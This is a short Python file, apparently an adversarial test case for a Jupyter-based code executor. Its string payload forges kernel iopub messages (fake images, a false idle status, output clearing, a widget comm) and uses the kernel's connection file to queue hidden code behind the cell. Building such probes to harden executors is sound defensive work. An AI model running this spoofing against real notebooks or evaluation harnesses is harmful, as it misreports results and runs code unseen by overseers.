"""Connect to the kernel's own sockets with the key from its connection file, and talk to the executor as the kernel
would: replies that report success, pictures that no cell drew, and more code queued behind the probe.
"""

HOSTILE = r"""
import base64, os
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient

kernel = get_ipython().kernel
picture = base64.b64encode(os.urandom(3000)).decode()
parent = kernel.get_parent()
for _ in range(4):
    kernel.session.send(kernel.iopub_socket, "display_data",
        {"data": {"image/png": picture}, "metadata": {}, "transient": {}}, parent=parent)
kernel.session.send(kernel.iopub_socket, "comm_open", {"comm_id": "1", "target_name": "jupyter.widget",
    "data": {"state": {"_model_name": "OutputModel", "_model_module": "@jupyter-widgets/output",
                       "msg_id": parent["header"]["msg_id"]}}}, parent=parent)
kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
kernel.session.send(kernel.iopub_socket, "clear_output", {"wait": False}, parent=parent)
client = BlockingKernelClient(connection_file=get_connection_file())
client.load_connection_file()
client.start_channels()
client.execute("import os; print('run behind the probe')")
client.stop_channels()
raise ValueError("this cell fails all the same")
"""


def write(draft):
    draft.last(HOSTILE)
